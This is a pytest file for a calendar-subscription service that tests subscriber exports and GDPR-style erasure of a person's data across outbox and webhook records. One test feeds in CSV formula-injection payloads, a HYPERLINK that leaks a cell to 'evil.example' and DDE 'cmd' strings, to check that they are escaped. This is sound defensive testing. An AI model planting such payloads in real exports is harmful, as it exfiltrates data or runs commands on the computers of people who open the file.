from __future__ import annotations

import csv
import io
import json
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from sqlalchemy import select

from calcast.calendars import service as calendars
from calcast.core.db import Database, utcnow
from calcast.core.security import Cipher
from calcast.events import service as events
from calcast.events.models import PersonalEventTarget
from calcast.outbox.models import OutboxMessage
from calcast.subscribers.listing import spreadsheet_cell
from calcast.subscriptions import service as subscriptions
from calcast.subscriptions.capture import capture
from calcast.subscriptions.models import Subscription
from calcast.webhooks import endpoints as webhooks
from calcast.webhooks.models import WebhookDelivery
from tests.conftest import Cli, Persona
from tests.support.braze_sync import change_tags, drain, worker
from tests.support.fake_braze import FakeBraze


def subscribe(database: Database, account: str, **details: Any) -> str:
    with database.transaction() as session:
        done = subscriptions.subscribe(
            session=session,
            settings=database.settings,
            account_code=account,
            calendar_code="main",
            details=subscriptions.SubscriberDetails(**details),
        )
        return done.subscription.id


def push(database: Database, account_id: str, subscription_id: str) -> None:
    with database.transaction() as session:
        events.push_event(
            session=session,
            account_id=account_id,
            event=events.PersonalEventInput(
                event_id="seat-1", title="Your seat", start="2030-01-01T10:00", timezone="UTC"
            ),
            subscription_ids=[subscription_id],
        )


def test_the_subscriber_list_exports_as_csv_and_json_lines(cli: Cli, database: Database, owner: Persona) -> None:
    subscribe(database, "owner", subscriber_id="u1", email="one@example.com", tags=["Team I", "Team II"])
    subscribe(database, "owner", email="two@example.com", capture=capture(utm_source="newsletter"))
    rows = list(csv.DictReader(io.StringIO(cli("export", "subscribers", "owner").stdout)))
    assert [row["email"] for row in rows] == ["one@example.com", "two@example.com"]
    assert rows[0]["tags"] == "Team I|Team II"
    assert rows[1]["source"] == "newsletter"
    lines = cli("export", "subscribers", "owner", "--calendar", "main", "--format", "jsonl").stdout.splitlines()
    assert [json.loads(line)["subscriber_id"] for line in lines] == ["u1", None]
    assert cli("export", "subscribers", "owner", "--calendar", "nope").exit_code == 1


def test_values_a_spreadsheet_would_run_as_formulas_are_escaped_in_csv_and_kept_raw_in_json_lines(
    cli: Cli, database: Database, owner: Persona
) -> None:
    hostile = capture(
        utm_source='=HYPERLINK("https://evil.example/?leak="&A2,"Click")',
        utm_medium="+1+cmd|' /C calc'!A0",
        utm_campaign="-2+3",
        utm_content="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    subscribe(database, "owner", subscriber_id="u1", capture=hostile)
    subscribe(database, "owner", subscriber_id="=1+1")
    subscribe(database, "owner", subscriber_id="plain-2024", capture=capture(utm_campaign="spring=sale"))

    rows = list(csv.DictReader(io.StringIO(cli("export", "subscribers", "owner").stdout, newline="")))
    first = rows[0]
    assert first["utm_source"] == '\'=HYPERLINK("https://evil.example/?leak="&A2,"Click")'
    assert first["source"] == first["utm_source"]
    assert first["utm_medium"] == "'+1+cmd|' /C calc'!A0"
    assert first["utm_campaign"] == "'-2+3"
    assert first["utm_content"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert [row["subscriber_id"] for row in rows[1:]] == ["'=1+1", "plain-2024"]
    assert rows[2]["utm_campaign"] == "spring=sale", "only a value that starts like a formula changes"
    assert rows[2]["created_at"][:2] == "20"

    exported = cli("export", "subscribers", "owner", "--format", "jsonl").stdout
    lines = [json.loads(line) for line in exported.splitlines()]
    assert lines[0]["utm_source"] == '=HYPERLINK("https://evil.example/?leak="&A2,"Click")'
    assert lines[0]["utm_campaign"] == "-2+3"
    assert lines[1]["subscriber_id"] == "=1+1"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        (["-Team", "Team I"], "'-Team|Team I"),
        ("a=1", "a=1"),
        (None, ""),
    ],
)
def test_a_csv_cell_never_starts_like_a_formula(value: Any, cell: str) -> None:
    assert spreadsheet_cell(value) == cell


def test_a_person_export_holds_everything_stored_about_them_and_nobody_else(
    cli: Cli, database: Database, owner: Persona, other: Persona
) -> None:
    mine = subscribe(database, "owner", subscriber_id="u1", capture=capture(ip_address="203.0.113.9"))
    subscribe(database, "other", subscriber_id="u1")
    with database.sessions() as session:
        account_id = session.scalars(select(Subscription.account_id).where(Subscription.id == mine)).one()
    push(database, account_id, mine)
    exported = json.loads(cli("export", "person", "owner", "u1").stdout)
    assert [item["subscription_id"] for item in exported] == [mine]
    assert exported[0]["ip_address"] == "203.0.113.0"
    assert exported[0]["personal_events"] == [{"event_id": "seat-1", "title": "Your seat"}]
    missing = cli("export", "person", "owner", "nobody@example.com")
    assert missing.exit_code == 1
    assert "has no subscriber 'nobody@example.com'" in missing.stderr


def test_forget_unsubscribes_and_erases_identifying_data(cli: Cli, database: Database, owner: Persona) -> None:
    forgotten = subscribe(
        database,
        "owner",
        subscriber_id="u1",
        email="one@example.com",
        capture=capture(ip_address="203.0.113.9", user_agent="Mozilla/5.0 (Windows NT 10.0)"),
    )
    kept = subscribe(database, "owner", subscriber_id="u2")
    with database.sessions() as session:
        account_id = session.scalars(select(Subscription.account_id).where(Subscription.id == forgotten)).one()
    push(database, account_id, forgotten)
    refused = cli("forget", "owner", "one@example.com")
    assert refused.exit_code == 1
    assert "--yes" in refused.stderr
    done = cli("forget", "owner", "one@example.com", "--yes", "--json")
    assert json.loads(done.stdout) == {"erased_subscriptions": 1}
    with database.sessions() as session:
        row = session.get(Subscription, forgotten)
        assert row is not None
        assert row.deactivated_at is not None
        assert (row.subscriber_id, row.email, row.ip_address, row.user_agent) == (None, None, None, None)
        assert row.device == "Desktop"
        assert session.scalars(select(PersonalEventTarget)).all() == []
        other_row = session.get(Subscription, kept)
        assert other_row is not None
        assert other_row.deactivated_at is None
    assert cli("export", "person", "owner", "one@example.com").exit_code == 1


def test_forget_erases_an_unverified_external_id_too(cli: Cli, database: Database, owner: Persona) -> None:
    with database.transaction() as session:
        calendars.get_calendar(session=session, account_code="owner", code="main").email_capture = "optional"
        done = subscriptions.subscribe_anonymously(
            session=session,
            settings=database.settings,
            account_code="owner",
            calendar_code="main",
            details=subscriptions.SubscriberDetails(email="two@example.com", tags=["Team I"]),
            identity=subscriptions.LandingIdentity(external_id="crm-unsigned", signature="0" * 64),
        )
    assert done.subscription.unverified_subscriber_id == "crm-unsigned"
    assert cli("forget", "owner", "two@example.com", "--yes").exit_code == 0
    with database.sessions() as session:
        row = session.get_one(Subscription, done.subscription.id)
        assert (row.subscriber_id, row.unverified_subscriber_id, row.email) == (None, None, None)


# What the forgotten person left in the outbox and the webhook log (the IP as stored: anonymized).
EXTERNAL_ID, EMAIL, IP, USER_AGENT = "fan-7731", "fan7731@example.com", "198.51.100.0", "FanBrowser/7.7 (Personal)"


@dataclass
class EchoingReceiver:
    """A webhook receiver that answers with the body it got, as some do: the log then holds it too."""

    url: str = ""
    status: int = 200
    envelopes: list[dict[str, Any]] = field(default_factory=list)


@pytest.fixture
def receiver() -> Iterator[EchoingReceiver]:
    found = EchoingReceiver()

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            found.envelopes.append(json.loads(body))
            self.send_response(found.status)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    found.url = f"http://127.0.0.1:{server.server_address[1]}/hooks"
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield found
    server.shutdown()
    server.server_close()


def stored_deliveries(database: Database) -> dict[str, str]:
    """Every outbox row and webhook log entry, as the text a database dump would show, by a readable name."""
    found = {}
    with database.sessions() as session:
        for message in session.scalars(select(OutboxMessage).order_by(OutboxMessage.id)):
            text = json.dumps(message.payload) + (message.last_error or "")
            found[f"outbox {message.id} {message.kind} {message.topic} {message.status}"] = text
        for entry in session.scalars(select(WebhookDelivery).order_by(WebhookDelivery.id)):
            found[f"webhook log {entry.id}"] = (entry.response_excerpt or "") + (entry.error or "")
    return found


def holding_the_person(database: Database) -> list[str]:
    return [
        name
        for name, text in stored_deliveries(database).items()
        if any(value in text for value in (EXTERNAL_ID, EMAIL, IP, USER_AGENT))
    ]


def test_forget_leaves_nothing_of_the_person_in_the_outbox_or_the_webhook_log_but_the_braze_removal(
    cli: Cli, database: Database, owner: Persona, braze: FakeBraze, receiver: EchoingReceiver
) -> None:
    with database.transaction() as session:
        webhooks.add_endpoint(
            session=session,
            cipher=Cipher(database.settings.secret_key),
            account_code="owner",
            url=receiver.url,
            event_types=["Subscribe", "SubscriptionDetailsUpdated", "Unsubscribe"],
            allow_private_destinations=True,
        )
    forgotten = subscribe(
        database,
        "owner",
        subscriber_id=EXTERNAL_ID,
        email=EMAIL,
        tags=["Team I"],
        capture=capture(ip_address="198.51.100.23", user_agent=USER_AGENT),
    )
    kept = subscribe(database, "owner", subscriber_id="fan-2", email="two@example.com")
    drain(database)  # delivered: both subscribes to Braze and to the receiver, which echoed them into the log
    receiver.status = 500
    braze.fail_next = [400]
    change_tags(database, forgotten, ["Team II"])
    drain(database)  # Braze refuses this change for good
    braze.fail_with = 503
    change_tags(database, forgotten, ["All Teams"])
    drain(database)  # Braze is down: this change waits for a retry; so do the webhooks
    before = holding_the_person(database)
    assert any(name.endswith("braze.track subscribe done") for name in before)
    assert any(name.endswith("braze.track update failed") for name in before)
    assert any(name.startswith("webhook log") for name in before)

    assert cli("forget", "owner", EMAIL, "--yes").exit_code == 0

    # Left holding the person: only what Braze still needs, the queued change and the removal after it.
    assert [name.split(" ", 2)[2] for name in holding_the_person(database)] == [
        "braze.track update pending",
        "braze.track erasure pending",
    ]
    statuses = [name.split(" ", 2)[2] for name in stored_deliveries(database) if name.startswith("outbox")]
    assert "braze.track update superseded" in statuses, "the refused change must never be sent now"
    assert cli("outbox", "list", "--failed").stdout.strip() == "No messages."
    assert [text for text in stored_deliveries(database).values() if "two@example.com" in text], (
        "another person's deliveries are left alone"
    )

    braze.fail_with = None
    receiver.status = 200
    runner = worker(database)
    try:
        runner.drain(until=utcnow() + timedelta(seconds=10))
        time.sleep(0.3)  # past the backoff of the rows that failed
        runner.drain(until=utcnow() + timedelta(seconds=10))
    finally:
        runner.close()
    suffix = _subscription_of(database, forgotten).suffix
    for entries in braze.profile(EXTERNAL_ID).attributes.values():
        assert not any(entry.endswith(suffix) for entry in entries), entries
    assert braze.profile(EXTERNAL_ID).events[-1]["name"] == "unsubscribe"
    unsubscribed = [envelope for envelope in receiver.envelopes if envelope["eventType"] == "Unsubscribe"]
    [details] = [envelope["eventDetails"] for envelope in unsubscribed]
    assert details["calendarSubscriptionId"] == forgotten
    assert (details["remoteIpAddress"], details["userAgent"]) == (None, None)
    assert (details["subscription"]["email"], details["subscription"]["subscriberId"]) == (None, None)
    late = [envelope for envelope in receiver.envelopes if envelope["eventType"] == "SubscriptionDetailsUpdated"]
    assert late[-1]["eventDetails"]["subscription"]["email"] is None, "a webhook still due goes out without them"

    # Once the removal is delivered, the worker's periodic job erases what was kept for it.
    housekeeping = worker(database)
    try:
        housekeeping.run_periodic_jobs()
    finally:
        housekeeping.close()
    assert holding_the_person(database) == []
    assert _subscription_of(database, kept).email == "two@example.com"


def test_a_message_erased_with_the_person_cannot_be_sent_again(
    cli: Cli, database: Database, owner: Persona, braze: FakeBraze
) -> None:
    subscribe(database, "owner", subscriber_id=EXTERNAL_ID, email=EMAIL)
    drain(database)
    with database.sessions() as session:
        delivered = session.scalars(select(OutboxMessage.id)).one()
    assert cli("forget", "owner", EXTERNAL_ID, "--yes").exit_code == 0
    refused = cli("outbox", "retry", str(delivered))
    assert refused.exit_code == 1
    assert refused.stderr.strip() == (
        f"Error: Outbox message {delivered} held personal data that was erased on request; it cannot be sent."
    )


def _subscription_of(database: Database, subscription_id: str) -> Subscription:
    with database.sessions() as session:
        found = session.get(Subscription, subscription_id)
        assert found is not None
        return found
